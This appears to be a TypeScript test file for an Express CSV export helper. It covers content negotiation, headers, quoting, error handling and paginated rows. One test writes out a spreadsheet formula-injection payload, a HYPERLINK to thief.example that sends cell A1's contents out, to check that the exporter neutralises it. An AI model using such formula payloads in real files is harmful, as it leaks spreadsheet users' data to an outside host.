import assert from 'node:assert/strict';
import { createServer, get, type IncomingMessage } from 'node:http';
import type { AddressInfo } from 'node:net';
import { setImmediate as soon } from 'node:timers/promises';
import express from 'express';
import fc from 'fast-check';
import request from 'supertest';
import { rowsOfPages, sendCsv, wantsCsv, type CsvColumn } from '../../../src/http/protocol/csv.ts';

type Row = { text: string | null; amount: number };

const columns: CsvColumn<Row>[] = [
  { header: 'text', value: ({ text }) => text },
  { header: 'amount', value: ({ amount }) => amount },
];

function appOver(rows: Iterable<Row> | AsyncIterable<Row>) {
  const errors: unknown[] = [];
  const app = express();
  app.get('/', async (req, res) => {
    if (!wantsCsv(req)) return void res.json([]);
    await sendCsv(res, { name: 'rows', columns, rows });
  });
  app.use(((error: Error, _req, res, next) => {
    errors.push(error);
    if (res.headersSent) return next();
    res.status(500).end();
  }) as express.ErrorRequestHandler);
  return { app, errors };
}

const csvOf = async (rows: Row[]) => (await request(appOver(rows).app).get('/').set('accept', 'text/csv')).text;

/** A reader of RFC 4180. */
function parseCsv(text: string): string[][] {
  const fields = [...text.matchAll(/(?:"((?:[^"]|"")*)"|([^",\r\n]*))(,|\r\n|$)/g)].slice(0, -1);
  const rows: string[][] = [[]];
  for (const [, quoted, plain = '', end] of fields) {
    rows.at(-1)?.push(quoted?.replaceAll('""', '"') ?? plain);
    if (end === '\r\n') rows.push([]);
  }
  return rows.slice(0, -1);
}

describe('an answer as CSV', () => {
  it('to a HEAD has its headers, and reads no row', async () => {
    const rows = {
      [Symbol.iterator]: (): Iterator<Row> => {
        throw new Error('A row was read.');
      },
    };
    const answer = await request(appOver(rows).app).head('/').set('accept', 'text/csv').expect(200);
    assert.match(answer.headers['content-type'] ?? '', /^text\/csv/);
    assert.match(answer.headers['content-disposition'] ?? '', /rows\.csv/);
  });

  it('has a heading, a line for each row, and the name of a file', async () => {
    const rows = [
      { text: 'one', amount: 1 },
      { text: null, amount: -2 },
    ];
    const answer = await request(appOver(rows).app).get('/').set('accept', 'text/csv');
    assert.equal(answer.text, '"text","amount"\r\n"one",1\r\n,-2\r\n');
    assert.equal(answer.headers['content-type'], 'text/csv; charset=utf-8');
    assert.equal(answer.headers['content-disposition'], 'attachment; filename="rows.csv"');
    assert.equal(answer.headers.vary, 'Accept');
  });

  it('has a heading when there are no rows', async () => {
    assert.equal(await csvOf([]), '"text","amount"\r\n');
  });

  it('comes only to who prefers it', async () => {
    for (const [accept, type] of [
      ['*/*', 'application/json'],
      ['application/json', 'application/json'],
      ['text/csv;q=0.5, application/json', 'application/json'],
      ['text/*', 'text/csv'],
      ['application/json;q=0.9, text/csv', 'text/csv'],
    ] as const) {
      const answer = await request(appOver([]).app).get('/').set('accept', accept);
      assert.equal(answer.type, type, accept);
    }
  });

  it('shows what a spreadsheet would calculate as text', async () => {
    for (const begin of ['=', '+', '-', '@', '\t', '\r', '\n', '\uff1d', '\uff0b', '\uff0d', '\uff20']) {
      const text = `${begin}HYPERLINK("https://thief.example/?"&A1,"click")`;
      const [, [field] = []] = parseCsv(await csvOf([{ text, amount: 1 }]));
      assert.equal(field, `'${text}`);
    }
  });

  it('gives every text back to a reader of RFC 4180, whatever it holds', async () => {
    const hostile = fc.oneof(
      fc.string({ unit: 'binary' }),
      fc.string({ unit: fc.constantFrom('"', ',', ';', '\r', '\n', '\t', '=', "'", '<script>', '\u0000', 'é') }),
    );
    const rows = fc.array(fc.record({ text: hostile, amount: fc.integer() }), { maxLength: 5 });
    await fc.assert(
      fc.asyncProperty(rows, async (given) => {
        const read = parseCsv(await csvOf(given)).slice(1);
        const expected = given.map(({ text, amount }) => [
          /^[=+\-@\t\r\n\uff1d\uff0b\uff0d\uff20]/.test(text) ? `'${text}` : text,
          String(amount),
        ]);
        assert.deepEqual(read, expected);
      }),
      { numRuns: 50 },
    );
  });

  it('is an ordinary error when the first row cannot be read', async () => {
    const { app } = appOver(failAfter(0));
    assert.equal((await request(app).get('/').set('accept', 'text/csv')).status, 500);
  });

  it('breaks off when a later row cannot be read, so that nobody takes it for whole', async () => {
    const { app, errors } = appOver(failAfter(3));
    await assert.rejects(async () => request(app).get('/').set('accept', 'text/csv'), /aborted|hang up/);
    assert.match(String(errors[0]), /no more/);
  });

  it('reads no further when its reader has gone', async () => {
    let read = 0;
    let ended = false;
    async function* endless(): AsyncGenerator<Row> {
      try {
        for (;;) {
          yield { text: 'x'.repeat(1000), amount: read++ };
          if (read % 100 === 0) await soon();
        }
      } finally {
        ended = true;
      }
    }
    const { app, errors } = appOver(endless());
    const server = createServer(app).listen(0, '127.0.0.1');
    try {
      await new Promise((resolve) => server.once('listening', resolve));
      const { port } = server.address() as AddressInfo;
      const response = await new Promise<IncomingMessage>((resolve, reject) => {
        get({ port, host: '127.0.0.1', headers: { accept: 'text/csv' } }, resolve).on('error', reject);
      });
      response.destroy();
      while (!ended) await soon();
      assert.deepEqual(errors, []);
    } finally {
      server.close();
    }
  });
});

describe('the rows of all pages', () => {
  const pagesOf =
    (total: number) =>
    ({ limit, cursor = '0' }: { limit: number; cursor?: string | undefined }) => {
      const begin = Number(cursor);
      const rows = Array.from({ length: Math.min(limit, total - begin) }, (_, index) => begin + index);
      const next = begin + rows.length;
      return Promise.resolve({ rows, next: next < total ? String(next) : null });
    };
  const pageAt = pagesOf(2500);

  it('come one after the other, each once', async () => {
    assert.deepEqual(
      await collect(rowsOfPages(pageAt)),
      Array.from({ length: 2500 }, (_, index) => index),
    );
  });

  it('are all there, however many they are', async () => {
    let count = 0;
    for await (const row of rowsOfPages(pagesOf(250_001))) count += row === count ? 1 : 0;
    assert.equal(count, 250_001);
  });

  it('end at the bound, however many follow', async () => {
    assert.equal((await collect(rowsOfPages(pageAt, 1700))).length, 1700);
  });
});

async function collect<T>(rows: AsyncIterable<T>): Promise<T[]> {
  const all: T[] = [];
  for await (const row of rows) all.push(row);
  return all;
}

async function* failAfter(rows: number): AsyncGenerator<Row> {
  for (let number = 0; number < rows; number++) {
    yield { text: 'x'.repeat(100_000), amount: number };
    await soon();
  }
  throw new Error('There are no more rows.');
}
